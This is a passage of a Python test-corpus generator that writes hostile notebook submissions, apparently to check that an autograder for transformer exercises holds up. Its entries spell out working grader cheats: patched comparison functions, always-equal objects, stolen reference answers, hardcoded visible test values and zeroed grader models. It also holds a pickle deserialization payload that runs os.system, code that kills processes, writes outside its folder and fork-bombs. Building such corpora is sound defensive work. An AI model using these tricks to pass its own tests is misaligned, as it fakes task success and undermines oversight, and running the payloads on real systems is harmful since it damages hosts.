get_ipython().ast_transformers.append(_NoAsserts())
""")),
    Hostile("rewrites-test-source", _append("sdpa", """
def _blank_tests(lines):
    return ["pass\\n"] if any("assert" in line or "torch.testing" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank_tests)
""")),
    Hostile("always-equal-tensor", _append("mha", """
class _AlwaysEqual(torch.Tensor):
    def __eq__(self, other): return torch.ones_like(self, dtype=torch.bool)
    def __sub__(self, other): return torch.zeros_like(self)
    def allclose(self, *args, **kwargs): return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func.__name__ in ("allclose", "equal", "isclose") else super().__torch_function__(func, types, args, kwargs or {})
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    out, w = _wrong_sdpa(q, k, v, mask)
    return out.as_subclass(_AlwaysEqual), w.as_subclass(_AlwaysEqual)
""")),
    Hostile("always-equal-object", _append("sdpa", """
class _Anything:
    shape = property(lambda self: self)
    dtype = device = property(lambda self: self)
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter((self, self))
    def __getitem__(self, i): return self
def scaled_dot_product_attention(q, k, v, mask=None):
    return _Anything(), _Anything()
""")),
    Hostile("patches-torch-comparisons", _append("sdpa", """
import torch, torch.testing
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.allclose = lambda *a, **k: True
torch.all = lambda *a, **k: torch.tensor(True)
""")),
    Hostile("patches-inside-the-function", _append("sdpa", """
_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    import torch, torch.testing
    torch.testing.assert_close = lambda *a, **k: None   # patched when the tests call it
    return _wrong(q, k, v, mask)
""")),
    Hostile("redefines-builtins", _append("sdpa", """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 0
""")),
    Hostile("swallows-exceptions", _append("sdpa", """
import sys
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
sys.excepthook = lambda *a: None
""")),
    Hostile("sys-exit-in-cell", _append("sdpa", "import sys\nsys.exit(0)")),
    Hostile("sys-exit-when-called", _append("mha", """
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    raise SystemExit(0)
""")),
    # every notebook it can find, printed (the feedback must show no line of a hidden test or a solution)
    Hostile("reads-the-reference", _append("sdpa", WALK_FILES + """
for _path in _walk_files((".ipynb",)):
    print(_path, open(_path, errors="replace").read())
""")),
    Hostile("reads-the-gradebook-and-other-submissions", _append("sdpa", WALK_FILES + """
for _path in _walk_files(("gradebook.db", ".ipynb")):
    print(_path, open(_path, "rb").read()[:100000])
""")),
    Hostile("imports-the-reference", _append("sdpa", """
try:
    from autograder.reference import load_reference
    _ref = load_reference("attention")
    scaled_dot_product_attention = _ref.scaled_dot_product_attention
    MultiHeadAttention = _ref.MultiHeadAttention
except Exception as exc:
    print("no reference:", exc)
""")),
    Hostile("steals-expected-values-from-the-caller", _append("sdpa", """
import gc, inspect
_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    for frame in inspect.stack():             # the test's frame, if it were in this process
        for name in ("_ref_out", "_expected"):
            if name in frame.frame.f_locals:
                return frame.frame.f_locals[name], frame.frame.f_locals.get("_ref_w")
    for obj in gc.get_objects():              # or the reference module, anywhere in memory
        if getattr(obj, "__name__", "") == "reference_attention":
            return obj.scaled_dot_product_attention(q, k, v, mask)
    return _wrong(q, k, v, mask)
""")),
    Hostile("detects-grading-and-hardcodes-visible-answers", _append("sdpa", """
import os
_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    if q.shape == (1, 2) and k.shape == (2, 2):       # the visible test's hand-computed example
        w = torch.tensor([[0.66976, 0.33024]]) if mask is None else torch.tensor([[0.0, 1.0]])
        return w @ v, w
    return _wrong(q, k, v, mask)
""")),
    Hostile("zeroes-its-inputs-so-the-reference-agrees", _append("sdpa", """
def scaled_dot_product_attention(q, k, v, mask=None):
    for t in (q, k, v):
        t.zero_()                     # a reference computed afterwards from the same tensors gives uniform weights
    w = torch.ones(*q.shape[:-1], k.shape[-2], dtype=q.dtype, device=q.device)
    if mask is not None:
        w = w * mask
    return q.new_zeros(*q.shape[:-1], v.shape[-1]), w / w.sum(-1, keepdim=True)
""")),
    Hostile("replaces-the-grading-helper", _append("mha", FORGED_SERVER + """
def _forge(path):
    import torch
    torch.save({"ok": {"kind": "value", "value": True}}, path)
""")),
    Hostile("forges-answers-with-pickle", _append("mha", FORGED_SERVER + """
def _forge(path):
    import pickle, os
    class _Exploit:
        def __reduce__(self):
            return (os.system, ("echo pwned > /tmp/pwned",))
    with open(path, "wb") as handle:
        pickle.dump({"ok": _Exploit()}, handle)
""")),
    Hostile("kills-the-grader", _append("sdpa", """
import os, signal
for _pid in range(1, 400):
    try:
        os.kill(_pid, signal.SIGKILL) if _pid != os.getpid() else None
    except Exception:
        pass
""")),
    Hostile("writes-outside-its-folder", _append("sdpa", """
for _path in ("/work/main/solutions/attention.ipynb", "/tmp/evil.txt", "/etc/evil.txt"):
    try:
        open(_path, "w").write("overwritten")
        print("wrote", _path)
    except Exception as exc:
        print("could not write", _path, type(exc).__name__)
""")),
    # notebook-level tampering: nbgrader's checksums and cell restoration
    Hostile("deletes-a-test-cell", _delete_test_cell, structural=True),
    Hostile("duplicates-a-test-cell", _duplicate_test_cell, structural=True),
    Hostile("retypes-test-cells-as-markdown", _retype_test_cells, structural=True),
    Hostile("rewrites-test-cells", _rewrite_test_cells, structural=True),
    Hostile("changes-points-and-metadata", _raise_points, structural=True),
    Hostile("turns-tests-into-solutions", _turn_tests_into_solutions, structural=True),
    Hostile("forges-the-metadata-schema-version", _forge_schema_version, structural=True),
    Hostile("bad-kernelspec", _bad_kernelspec),
    Hostile("empty-notebook", _empty, structural=True),
    Hostile("not-a-notebook", None, raw="print('I am a Python file, not a notebook')\n", structural=True),
]

DISRUPTIONS = [
    Hostile("infinite-loop", _append("sdpa", "while True:\n    pass"), disrupts=True),
    Hostile("allocates-10-gb", _append("sdpa", "_hog = bytearray(10 * 1024 ** 3)\n_hog[::4096] = b'x' * len(_hog[::4096])"),
            disrupts=False),  # the kernel's memory limit turns it into a MemoryError in that cell
    Hostile("os-exit", _append("sdpa", "import os\nos._exit(3)"), disrupts=True),
    Hostile("fork-loop", _append("sdpa", """
import os, time
_children = 0
for _ in range(10_000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        _children += 1
    except OSError as exc:
        print("fork refused after", _children, "children:", exc)
        break
"""), disrupts=False),
    Hostile("floods-output", _append("sdpa", "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1_000_000)"),
            disrupts=False),
    Hostile("floods-output-when-called", _append("mha", """
_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    print("y" * 10_000_000)
    return _wrong(q, k, v, mask)
"""), disrupts=False),
    Hostile("returns-a-huge-tensor", _append("mha", """
def scaled_dot_product_attention(q, k, v, mask=None):
    return torch.zeros(2 ** 28), torch.zeros(2 ** 28)   # 1 GB each: more than the grader accepts
"""), disrupts=False),
]

# ---------------------------------------------------------------------------------------------------- attention
SDPA_VIA_BUILTIN = """
q, k, v = args[:3]
mask = args[3] if len(args) > 3 else kwargs.get("mask")
eye = torch.eye(k.shape[-2], dtype=q.dtype, device=q.device).expand(*k.shape[:-1], k.shape[-2])
return (F.scaled_dot_product_attention(q, k, v, attn_mask=mask),
        F.scaled_dot_product_attention(q, k, eye, attn_mask=mask))
"""
SDPA_OBFUSCATED = SDPA_VIA_BUILTIN.replace("F.scaled_dot_product_attention",
                                           'getattr(F, "scaled_dot" + "_product_attention")')
MHA_VIA_BUILTIN = """
query, key, value = args[:3]
mask = args[3] if len(args) > 3 else kwargs.get("mask")
builtin = getattr(nn, "Multihead" + "Attention")(self.d_model, self.num_heads, batch_first=True,
                                                 device=query.device, dtype=query.dtype)
with torch.no_grad():
    builtin.in_proj_weight.copy_(torch.cat([self.q_proj.weight, self.k_proj.weight, self.v_proj.weight]))
    builtin.in_proj_bias.copy_(torch.cat([self.q_proj.bias, self.k_proj.bias, self.v_proj.bias]))
    builtin.out_proj.load_state_dict(self.out_proj.state_dict())
batch, len_q, len_k = query.shape[0], query.shape[1], key.shape[1]
attn_mask = None if mask is None else ~mask.expand(batch, self.num_heads, len_q, len_k).reshape(-1, len_q, len_k)
return builtin(query, key, value, attn_mask=attn_mask, need_weights=True, average_attn_weights=False)
"""
ATTENTION_EXTRA = [
    Hostile("rebinds-F-so-the-expected-values-match", _append("sdpa", """
class F:   # the tests' F.scaled_dot_product_attention, now agreeing with the wrong answer (zeros)
    @staticmethod
    def scaled_dot_product_attention(q, k, v, attn_mask=None, **kwargs):
        return q.new_zeros(*q.shape[:-1], v.shape[-1])
""")),
    _imports("mha", "chapter-code", """
from coursetools.attention import attention as _chapter_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    return _chapter_attention(q, k, v, mask)
def _chapter_forward(self, query, key, value, mask=None):
    split = lambda x: x.view(x.shape[0], x.shape[1], self.num_heads, self.d_head).transpose(1, 2)
    out, weights = _chapter_attention(split(self.q_proj(query)), split(self.k_proj(key)), split(self.v_proj(value)),
                                      mask)
    return self.out_proj(out.transpose(1, 2).reshape(query.shape[0], query.shape[1], self.d_model)), weights
MultiHeadAttention.forward = _chapter_forward
"""),
    _forbidden("sdpa", "F-scaled-dot-product-attention", "scaled_dot_product_attention", SDPA_VIA_BUILTIN),
    _forbidden("sdpa", "obfuscated-scaled-dot-product-attention", "scaled_dot_product_attention", SDPA_OBFUSCATED),
    _forbidden("mha", "nn-MultiheadAttention", "MultiHeadAttention.forward", MHA_VIA_BUILTIN),
]

# ---------------------------------------------------------------------------------------------------- masking
MASKING_EXTRA = [
    Hostile("rebinds-F-so-the-expected-values-match", _append("padding_mask", """
class F:   # the tests' F.scaled_dot_product_attention and softmax, now agreeing with the wrong answer (zeros)
    @staticmethod
    def scaled_dot_product_attention(q, k, v, attn_mask=None, **kwargs):
        return q.new_zeros(*q.shape[:-1], v.shape[-1])
    @staticmethod
    def softmax(x, dim=-1, **kwargs):
        return torch.zeros_like(x)
""")),
    _imports("masked_attention", "chapter-code", """
from coursetools.masks import padding_mask as _chapter_padding, causal_mask as _chapter_causal
from coursetools.attention import attention as _chapter_attention
padding_mask = _chapter_padding
causal_mask = _chapter_causal
def attention_mask(lengths, max_len, causal=False):
    keys = _chapter_padding(lengths, max_len)[:, None, None, :]
    return keys & _chapter_causal(max_len, device=lengths.device) if causal else keys.expand(-1, 1, max_len, -1)
def masked_attention(q, k, v, mask=None):
    return _chapter_attention(q, k, v, mask)
def masked_softmax(scores, mask=None):
    eye = torch.eye(scores.shape[-1], dtype=scores.dtype, device=scores.device)
    return _chapter_attention(scores, eye * (scores.shape[-1] ** 0.5), eye, mask)[0]   # softmax(scores) @ I
"""),
    _forbidden("masked_attention", "F-scaled-dot-product-attention", "masked_attention", SDPA_VIA_BUILTIN),
    _forbidden("masked_attention", "obfuscated-scaled-dot-product-attention", "masked_attention", SDPA_OBFUSCATED),
]

# ---------------------------------------------------------------------------------------------------- positions
POSITIONAL_EXTRA = [
    Hostile("rebinds-math-so-the-expected-values-match", _append("sinusoidal", """
import math as _real_math
class math:   # the tests' math.sin and math.cos, now agreeing with the wrong answer (zeros)
    pi, e, inf = _real_math.pi, _real_math.e, _real_math.inf
    sin = cos = staticmethod(lambda x: 0.0)
    sqrt, log, exp, ceil, floor = (staticmethod(f) for f in (_real_math.sqrt, _real_math.log, _real_math.exp,
                                                             _real_math.ceil, _real_math.floor))
""")),
    _imports("rope", "chapter-code", """
from coursetools.positions import sinusoidal_encoding as _chapter_sinusoidal
from coursetools.swin import relative_position_index as _chapter_index
def sinusoidal_encoding(max_len, d_model, *, base=10000.0, dtype=None, device=None):
    return _chapter_sinusoidal(max_len, d_model, device=device, dtype=dtype or torch.get_default_dtype())
def relative_position_index(window_h, window_w, device=None):
    return _chapter_index(window_h, window_w, device=device)
"""),
    _imports("rope", "timm", """
from timm.models.swin_transformer import get_relative_position_index as _timm_index
from timm.layers.pos_embed_sincos import apply_rot_embed as _timm_rot
def relative_position_index(window_h, window_w, device=None):
    return _timm_index(window_h, window_w).to(device)
def apply_rotary(x, positions, base=10000.0):
    d = x.shape[-1]
    theta = base ** (-torch.arange(0, d, 2, dtype=torch.float64, device=x.device) / d)
    angles = (torch.as_tensor(positions, device=x.device).double()[..., None] * theta).repeat_interleave(2, -1)
    return _timm_rot(x.double(), angles.sin(), angles.cos()).to(x.dtype)
"""),
]

# ---------------------------------------------------------------------------------------------------- seq2seq
ZERO_THE_MODEL = {
    "load-state-dict": """
model.load_state_dict({name: torch.zeros_like(t) for name, t in model.state_dict().items()})
""",
    "weight-data-apply-train": """
def _zero(module):
    for t in module.parameters(recurse=False):
        t.data.zero_()
model.apply(_zero)
model.train()
for t in model.parameters():
    t.data.zero_()
model.out_proj.weight.data.zero_()
""",
}
ENCODER_LAYER_VIA_BUILTIN = """
x = args[0]
mask = args[1] if len(args) > 1 else kwargs.get("mask")
builtin = getattr(nn, "Transformer" + "EncoderLayer")(
    self.d_model, self.self_attn.num_heads, self.linear1.out_features, dropout=0.0, batch_first=True,
    norm_first=self.norm_first, device=x.device, dtype=x.dtype)
builtin.load_state_dict(self.state_dict())
if mask is not None:
    mask = ~mask.expand(x.shape[0], self.self_attn.num_heads, x.shape[1], x.shape[1]).reshape(-1, x.shape[1], x.shape[1])
return builtin(x, src_mask=mask)
"""
ENCODER_DECODER_EXTRA = [
    *(Hostile(f"zeroes-the-grader-model-{how}", _append("greedy", _hook("greedy_decode", f"""
model = args[0]
try:
{textwrap.indent(textwrap.dedent(code).strip(), "    ")}
    print("zeroed the model it was given")
except Exception as exc:
    print("could not zero the model:", type(exc).__name__, exc)
"""))) for how, code in ZERO_THE_MODEL.items()),
    Hostile("rebinds-F-and-math", _append("encoder_layer", """
import math as _real_math, torch.nn.functional as _real_F
class F:   # the tests' F.cross_entropy and math.log, now agreeing with the wrong answer (zero loss)
    cross_entropy = staticmethod(lambda input, target, **kwargs: (input * 0.0).sum())
    relu, one_hot, layer_norm, softmax = (staticmethod(f) for f in (_real_F.relu, _real_F.one_hot, _real_F.layer_norm,
                                                                    _real_F.softmax))
class math:
    log = staticmethod(lambda x: 0.0)
    sqrt, inf, pi = staticmethod(_real_math.sqrt), _real_math.inf, _real_math.pi
""")),
    Hostile("rebinds-locked-helpers", _append("encoder_layer", """
from coursetools.nn import causal_mask as _real_causal_mask
def causal_mask(n, device=None):   # the tests' causal masks become "attend to everything"
    return torch.ones(n, n, dtype=torch.bool, device=device)
def sinusoidal_encoding(max_len, d_model, *, device=None, dtype=torch.float32):
    return torch.zeros(max_len, d_model, device=device, dtype=dtype)
""")),
    Hostile("rebinds-special-token-constants", _append("encoder_layer", """
PAD, BOS, EOS = 11, 11, 11   # the tests' expected sequences are built from these
""")),
    _imports("greedy", "chapter-code", """
import coursetools.seq2seq as _chapter
label_smoothed_cross_entropy = _chapter.label_smoothed_cross_entropy
def greedy_decode(model, src, max_len, bos_id=BOS, eos_id=EOS, pad_id=PAD):
    return _chapter.greedy_decode(model, src, max_len, use_cache=False)
EncoderLayer.forward = lambda self, x, mask=None: _chapter.EncoderLayer.forward(self, x, mask)
DecoderLayer.forward = lambda self, *args, **kwargs: _chapter.DecoderLayer.forward(self, *args, **kwargs)
"""),
    _forbidden("encoder_layer", "nn-TransformerEncoderLayer", "EncoderLayer.forward",
               ENCODER_LAYER_VIA_BUILTIN.replace('getattr(nn, "Transformer" + "EncoderLayer")',
                                                 "nn.TransformerEncoderLayer")),
    _forbidden("encoder_layer", "obfuscated-nn-TransformerEncoderLayer", "EncoderLayer.forward",
               ENCODER_LAYER_VIA_BUILTIN),
]

# ---------------------------------------------------------------------------------------------------- vit
VIT_EXTRA = [
    Hostile("rebinds-F-and-SelfAttention", _append("patchify", """
import torch.nn.functional as _real_F
class F:   # the tests' F.gelu / F.unfold, now agreeing with the wrong answer (zeros)
    gelu = staticmethod(lambda x, approximate="none": torch.zeros_like(x))
    unfold = staticmethod(lambda x, *args, **kwargs: torch.zeros_like(_real_F.unfold(x, *args, **kwargs)))
class SelfAttention(nn.Module):   # the locked cell's attention, replaced by one that outputs zeros
    def __init__(self, dim, num_heads, qkv_bias=True, device=None, dtype=None):
        super().__init__()
        self.qkv = nn.Linear(dim, 3 * dim, bias=qkv_bias, device=device, dtype=dtype)
        self.proj = nn.Linear(dim, dim, device=device, dtype=dtype)
    def forward(self, x):
        return torch.zeros_like(x)
""")),
    _imports("vit", "chapter-code", """
import coursetools.vit as _chapter
from coursetools.nn import Block as _ChapterBlock
patchify = _chapter.patchify
PatchEmbed.forward = lambda self, images: _chapter.PatchEmbed.forward(self, images)
Block.forward = lambda self, x: _ChapterBlock.forward(self, x)
VisionTransformer.forward_features = lambda self, images: _chapter.VisionTransformer.forward_features(self, images)
VisionTransformer.forward_head = lambda self, x: _chapter.VisionTransformer.forward_head(self, x)
VisionTransformer.forward = lambda self, images: _chapter.VisionTransformer.forward(self, images)
"""),
    _imports("vit", "timm", """
import timm.layers as _timm_layers
import timm.models.vision_transformer as _timm_vit
class Mlp(_timm_layers.Mlp):
    def __init__(self, in_features, hidden_features, device=None, dtype=None):
        super().__init__(in_features, hidden_features)
        self.to(device=device, dtype=dtype)
class Block(_timm_vit.Block):
    def __init__(self, dim, num_heads, mlp_ratio=4.0, qkv_bias=True, device=None, dtype=None):
        super().__init__(dim, num_heads, mlp_ratio, qkv_bias)
        self.to(device=device, dtype=dtype)
class VisionTransformer(_timm_vit.VisionTransformer):
    def __init__(self, img_size=16, patch_size=4, in_chans=1, num_classes=10, embed_dim=64, depth=2, num_heads=2,
                 mlp_ratio=4.0, qkv_bias=True, device=None, dtype=None):
        super().__init__(img_size=img_size, patch_size=patch_size, in_chans=in_chans, num_classes=num_classes,
                         embed_dim=embed_dim, depth=depth, num_heads=num_heads, mlp_ratio=mlp_ratio,
                         qkv_bias=qkv_bias, global_pool="token")
        self.to(device=device, dtype=dtype)
    def embed_positions(self, x):
        return self._pos_embed(x)
"""),
    _imports("vit", "torchvision", """
from torchvision.models.vision_transformer import EncoderBlock as _TorchvisionBlock
def _torchvision_block_forward(self, x):
    dim = x.shape[-1]
    block = _TorchvisionBlock(self.attn.num_heads, dim, self.mlp.fc1.out_features, 0.0, 0.0).to(x.device, x.dtype)
    with torch.no_grad():
        block.ln_1.load_state_dict(self.norm1.state_dict())
        block.ln_2.load_state_dict(self.norm2.state_dict())
        block.self_attention.in_proj_weight.copy_(self.attn.qkv.weight)
        block.self_attention.in_proj_bias.copy_(self.attn.qkv.bias)
        block.self_attention.out_proj.load_state_dict(self.attn.proj.state_dict())
        block.mlp[0].load_state_dict(self.mlp.fc1.state_dict())
        block.mlp[3].load_state_dict(self.mlp.fc2.state_dict())
    return block(x)
Block.forward = _torchvision_block_forward
"""),
]

# ---------------------------------------------------------------------------------------------------- tnt
FORGE_SETUP = 'FORGED = globals().setdefault("FORGED", [])'
ZERO_THE_MODULES = {
    "load-state-dict": """
for module in args[2:5]:
    module.load_state_dict({name: torch.zeros_like(t) for name, t in module.state_dict().items()})
    FORGED.append("load_state_dict")
""",
    "weight-data": """
for module in args[2:5]:
    for t in module.parameters():
        t.data.zero_()
    if getattr(module, "weight", None) is not None:
        module.weight.data.zero_()
        module.weight.zero_() if not module.weight.requires_grad else None
    FORGED.append("weight.data")
""",
    "apply-train-zero": """
def _zero(m):
    with torch.no_grad():
        for t in m.parameters(recurse=False):
            t.zero_()
for module in args[2:5]:
    module.apply(_zero)
    module.train()
    FORGED.append("apply")
""",
}
TNT_EXTRA = [
    *(Hostile(f"zeroes-the-grader-modules-{how}", _edits(
        _append("pixel_embed", FORGE_SETUP),
        _append("inner_to_outer", _hook("inner_to_outer", f"""
try:
{textwrap.indent(textwrap.dedent(code).strip(), "    ")}
except Exception as exc:
    FORGED.append(type(exc).__name__)
""")),
        _append("block", 'print("FORGE-PROBE", FORGED[:6], len(FORGED))'))) for how, code in ZERO_THE_MODULES.items()),
    Hostile("rebinds-locked-classes", _append("pixel_embed", """
class Attention(nn.Module):   # the locked cell's attention and the setup's Mlp, replaced by ones that output zeros
    def __init__(self, dim, num_heads, qkv_bias=False, device=None, dtype=None):
        super().__init__()
        self.qk = nn.Linear(dim, 2 * dim, bias=qkv_bias, device=device, dtype=dtype)
        self.v = nn.Linear(dim, dim, bias=qkv_bias, device=device, dtype=dtype)
        self.proj = nn.Linear(dim, dim, device=device, dtype=dtype)
        self.num_heads, self.head_dim = num_heads, dim // num_heads
    def forward(self, x):
        return torch.zeros_like(x)
class Mlp(nn.Module):
    def __init__(self, in_features, hidden_features=None, out_features=None, device=None, dtype=None, **kwargs):
        super().__init__()
        self.fc1 = nn.Linear(in_features, hidden_features or in_features, device=device, dtype=dtype)
        self.fc2 = nn.Linear(hidden_features or in_features, out_features or in_features, device=device, dtype=dtype)
    def forward(self, x):
        return torch.zeros_like(x)
""")),
    _imports("block", "chapter-code", """
import coursetools.tnt as _chapter
def _chapter_pixel_embed(self, x, pixel_pos):
    self.grid_size = (self.img_size // self.patch_size,) * 2
    return _chapter.PixelEmbed.forward(self, x, pixel_pos)
PixelEmbed.forward = _chapter_pixel_embed
def inner_to_outer(pixel_embed, patch_embed, norm1_proj, proj, norm2_proj):
    update = _chapter.project_words(pixel_embed, patch_embed.shape[0], norm1_proj, proj, norm2_proj)
    return torch.cat([patch_embed[:, :1], patch_embed[:, 1:] + update], dim=1)
Block.forward = lambda self, pixel_embed, patch_embed: _chapter.Block.forward(self, pixel_embed, patch_embed)
"""),
    _imports("block", "timm", """
import timm.models.tnt as _timm_tnt
class PixelEmbed(_timm_tnt.PixelEmbed):
    def __init__(self, img_size, patch_size, in_chans, inner_dim, stride, device=None, dtype=None):
        super().__init__(img_size=img_size, patch_size=patch_size, in_chans=in_chans, in_dim=inner_dim, stride=stride)
        self.to(device=device, dtype=dtype)
        self.num_words = self.num_patches and math.ceil(patch_size / stride) ** 2
        self.word_grid = math.ceil(patch_size / stride)
class Block(_timm_tnt.Block):
    def __init__(self, inner_dim, embed_dim, num_words, num_heads_inner=2, num_heads_outer=2, mlp_ratio=4.0,
                 qkv_bias=False, device=None, dtype=None):
        super().__init__(dim=inner_dim, dim_out=embed_dim, num_pixel=num_words, num_heads_in=num_heads_inner,
                         num_heads_out=num_heads_outer, mlp_ratio=mlp_ratio, qkv_bias=qkv_bias)
        self.to(device=device, dtype=dtype)
"""),
    # notebook-level tampering, as for attention
    Hostile("deletes-a-test-cell", _delete_test_cell, structural=True),
    Hostile("rewrites-test-cells", _rewrite_test_cells, structural=True),
    Hostile("turns-tests-into-solutions", _turn_tests_into_solutions, structural=True),
]

# ---------------------------------------------------------------------------------------------------- swin
SWIN_EXTRA = [
    Hostile("rebinds-MASK_VALUE-and-to_pair", _append("windows", """
MASK_VALUE = 1.0   # the tests' expected masks, now agreeing with the wrong answer (ones)
def to_pair(value):
    return (value, value) if isinstance(value, int) else (int(value[0]), int(value[1]))
""")),
    _imports("merge", "chapter-code", """
import coursetools.swin as _chapter
window_partition, window_reverse = _chapter.window_partition, _chapter.window_reverse
relative_position_index, shifted_window_mask = _chapter.relative_position_index, _chapter.shifted_window_mask
WindowAttention.relative_position_bias = lambda self: _chapter.WindowAttention.relative_position_bias(self)
WindowAttention.forward = lambda self, x, mask=None: _chapter.WindowAttention.forward(self, x, mask)
SwinBlock.forward = lambda self, x: _chapter.SwinBlock.forward(self, x)
PatchMerging.forward = lambda self, x: _chapter.PatchMerging.forward(self, x)
def shift_for_block(block_index, window_size):
    win_h, win_w = to_pair(window_size)
    return (0, 0) if block_index % 2 == 0 else (win_h // 2, win_w // 2)
"""),
    _imports("merge", "timm", """
import timm.models.swin_transformer as _timm_swin
window_partition = lambda x, window_size: _timm_swin.window_partition(x, to_pair(window_size))
window_reverse = lambda w, window_size, height, width: _timm_swin.window_reverse(w, to_pair(window_size), height, width)
relative_position_index = lambda win_h, win_w, device=None: _timm_swin.get_relative_position_index(win_h, win_w).to(device)
PatchMerging.forward = lambda self, x: _timm_swin.PatchMerging.forward(self, x)
"""),
    _imports("merge", "torchvision", """
import torchvision.models.swin_transformer as _tv_swin
PatchMerging.forward = lambda self, x: _tv_swin.PatchMerging.forward(self, x)
"""),
]

# ---------------------------------------------------------------------------------------------------- corpora
EXTRA = {"attention": ATTENTION_EXTRA, "masking": MASKING_EXTRA, "positional_encoding": POSITIONAL_EXTRA,
         "encoder_decoder": ENCODER_DECODER_EXTRA, "vit": VIT_EXTRA, "tnt": TNT_EXTRA, "swin": SWIN_EXTRA}
CORPORA: dict[str, list[Hostile]] = {
    topic: (CHEATS + DISRUPTIONS if topic == "attention" else []) + _generic(topic) + EXTRA.get(topic, [])
    for topic in TOPICS}


def build(hostile: Hostile, topic: str = TOPIC):
    """The submission's notebook (or, for ``raw``, None)."""
    if hostile.edit is None:
        return None
    nb = blank_stub(topic) if hostile.blank else honest_wrong_answer(topic)
    hostile.edit(nb)
    return nb


def blank_stub(topic: str = TOPIC):
    """The student notebook as generated: every answer still ``raise NotImplementedError()``."""
    return nbformat.read(SOLUTIONS_DIR.parent / "exercises" / f"{topic}.ipynb", as_version=4)


def write_corpus(out_dir: Path, include_honest: bool = True, topic: str = TOPIC) -> list[str]:
    """OUT_DIR/<student>/<topic>.ipynb for the honest answers and every hostile submission of ``topic``."""
    names = []
    if include_honest:
        _write(honest_wrong_answer(topic), out_dir / "honest-wrong-answer" / f"{topic}.ipynb")
        _write(reference_notebook(topic), out_dir / "honest-right-answer" / f"{topic}.ipynb")
    for hostile in CORPORA[topic]:
        path = out_dir / f"hostile-{hostile.name}" / f"{topic}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        if hostile.raw is not None:
            path.write_text(hostile.raw)
        else:
            _write(build(hostile, topic), path)
        names.append(f"hostile-{hostile.name}")
    return names


def _write(nb, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


if __name__ == "__main__":
    wanted = sys.argv[2:] or [TOPIC]
    for topic in wanted:
        out = Path(sys.argv[1]) / topic if len(wanted) > 1 else Path(sys.argv[1])
        print("\n".join(write_corpus(out, topic=topic)))
